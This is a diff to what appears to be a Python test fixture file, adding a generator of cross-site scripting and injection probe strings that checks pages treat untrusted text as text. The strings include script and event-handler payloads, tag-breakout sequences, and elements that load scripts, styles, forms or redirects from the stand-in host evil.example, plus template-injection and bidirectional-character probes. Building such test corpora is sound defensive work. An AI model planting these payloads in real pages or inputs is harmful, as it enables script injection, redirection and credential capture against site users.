@@ -226,6 +226,42 @@ def _laughs() -> str:
 
 
 # --------------------------------------------------------------------------------------
+# Words
+# --------------------------------------------------------------------------------------
+EVIL = "https://evil.example"
+_RUN = "window.ran=(window.ran||0)+1"
+
+
+def words() -> Iterator[tuple[str, str]]:
+    """Words that would do something if a page of ours ever took them for more than words: run `window.ran`, ask EVIL
+    for something, or plant an element whose id, or whose name, is "planted"."""
+    yield "script", f"<script id=planted>{_RUN}</script>"
+    yield "script after a title", f"</title></head><body><script id=planted>{_RUN}</script>"
+    yield "script after a text", f"</textarea></pre></q></p></main><script id=planted src={EVIL}/x.js></script>"
+    yield "script in a script", f"<scr<script>ipt id=planted>{_RUN}</scr</script>ipt>"
+    yield "script after a comment", f"--><!--><script id=planted>{_RUN}</script><!--"
+    yield "script as a section", f"]]><script id=planted>{_RUN}</script>"
+    yield "a picture", f"<img id=planted src={EVIL}/p.png onerror={_RUN}>"
+    yield "a picture out of an attribute", f"\"'><img id=planted src=x onerror={_RUN}>"
+    yield "an attribute", f'" onfocus="{_RUN}" autofocus id="planted" x="'
+    yield "an attribute in single quotes", f"' onmouseover='{_RUN}' id='planted' x='"
+    yield "a drawing", f"<svg id=planted onload={_RUN}><use href='{EVIL}/x.svg#a'/></svg>"
+    yield "formulas", f"<math><mtext><table><mglyph><style><img id=planted src=x onerror={_RUN}></style></table>"
+    yield "a frame", f'<iframe id=planted srcdoc="<script>parent.{_RUN}</script>"></iframe>'
+    yield "an object", f"<object id=planted data={EVIL}/x.swf></object><embed id=planted src={EVIL}/x.swf>"
+    yield "a style", f"<style id=planted>@import url({EVIL}/x.css);*{{display:none!important}}</style>"
+    yield "a style sheet", f"<link id=planted rel=stylesheet href={EVIL}/x.css>"
+    yield "a way elsewhere", f'<meta id=planted http-equiv=refresh content="0;url={EVIL}/">'
+    yield "another base", f"<base id=planted href={EVIL}/>"
+    yield "a form", f"<form id=planted action={EVIL}/><input name=planted autofocus><button>Go</button></form>"
+    yield "a link that runs", f"<a id=planted href='java\tscript:{_RUN}'>Read more</a>"
+    yield "a template", "{{ 7*7 }} {% raw %} ${7*7} #{7*7} %(y)s {0} <%= 7*7 %>"
+    yield "an element of the page", "<p id=live data-news=planted></p><form id=planted><input name=attributes></form>"
+    yield "a word that turns", "Level \u202e4\u202c is \u2066not\u2069 \u200fin\u200e force\u061c\u2060\ufeff."
+    yield "letters that are none", "Ma\x0bli \x1b[31mred\x1b[0m \ufffe \U0010ffff \ud7ff"
+
+
+# --------------------------------------------------------------------------------------
 # JSON
 # --------------------------------------------------------------------------------------
 def documents() -> Iterator[Case]:
